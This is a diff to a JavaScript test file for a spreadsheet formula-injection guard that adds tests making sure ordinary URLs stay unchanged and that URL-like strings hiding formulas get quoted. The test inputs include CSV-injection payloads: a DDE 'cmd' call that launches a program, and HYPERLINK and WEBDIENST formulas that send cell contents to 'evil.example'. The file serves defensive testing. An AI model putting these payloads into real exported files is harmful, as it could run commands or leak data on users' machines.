@@ -104,12 +104,69 @@ describe("text that a spreadsheet would run", () => {
       "a; -5": "a; -5",
       "1; -2; 3": "1; -2; 3",
       "a,=b": "a,=b",
-      "https://example.com/@52.5,-13.4": "https://example.com/@52.5,-13.4",
     };
     for (const [text, cell] of Object.entries(cases)) {
       assert.equal(formulaGuard(",").guarded(text), cell);
     }
     assert.equal(formulaGuard(";").guarded("a,=b;=c"), "a,'=b;=c");
+  });
+
+  it("changes no URL, and quotes one that the delimiter can tear apart", () => {
+    const urls = [
+      "https://maps.example/@40.7,-74.0,15z",
+      "http://example.com/a;b=-c",
+      "https://example.com/a,'-74.0",
+      "https://example.com/a;'-5,'-1",
+      "HTTPS://EXAMPLE.COM/A;B",
+      "ftp://example.com/a;-1",
+      "https://пример.рф/путь;-1",
+      "sc-domain://example.com/,-1",
+    ];
+    for (const dialect of [...dialects, excelDialect("\t")]) {
+      for (const url of urls) {
+        const [cell, after] = cellsOf(written([[url, "x"]], dialect), dialect.delimiter);
+        assert.deepEqual([cell, after], [url, "x"]);
+        assert.equal(formulaGuard(dialect.delimiter).guarded(url), url);
+        assert.equal(formulaGuard(dialect.delimiter).plain(url), url);
+      }
+      const data = tableOf(urls.map((url) => ({ url })));
+      const part = { data, columns: [0], rows: urls.map((_url, row) => row) };
+      assert.deepEqual(copyText(part, "tsv", false, ",").split("\n"), urls);
+    }
+  });
+
+  it("S6: is guarded in what only looks like a URL", () => {
+    const texts = [
+      "https://example.com/;=cmd|' /C calc'!A0",
+      "https://example.com/;=cmd|'/Ccalc'!A0",
+      'https://example.com/;=HYPERLINK("http://evil.example?"&A1)',
+      "https://example.com/\t=1",
+      "https://example.com/\n=1",
+      "see https://example.com/;=1",
+      "=https://example.com/",
+      "-x://a;=1",
+      "example.com/;=1",
+    ];
+    for (const text of texts) {
+      assert.notEqual(formulaGuard(",").guarded(text), text);
+      assert.equal(formulaGuard(",").plain(formulaGuard(",").guarded(text)), text);
+    }
+  });
+
+  it("S6: is guarded in a URL, too, where a formula would begin behind another separator", () => {
+    const urls = {
+      "https://evil.example/?;=WEBDIENST(A2&A3)": "https://evil.example/?;'=WEBDIENST(A2&A3)",
+      "https://evil.example/;＝A1": "https://evil.example/;'＝A1",
+      "https://evil.example/;@SUM(A2)": "https://evil.example/;'@SUM(A2)",
+      "https://evil.example/;-1+WEBDIENST(A2)": "https://evil.example/;'-1+WEBDIENST(A2)",
+      "https://evil.example/;--A2": "https://evil.example/;'--A2",
+      "https://evil.example/;'=A2": "https://evil.example/;''=A2",
+      "https://maps.example/@40.7;-74.0;=A1": "https://maps.example/@40.7;-74.0;'=A1",
+    };
+    for (const [url, cell] of Object.entries(urls)) {
+      assert.equal(formulaGuard(",").guarded(url), cell);
+      assert.equal(formulaGuard(",").plain(cell), url);
+    }
   });
 
   it("S6: begins no cell, whichever separator opens the file", () => {
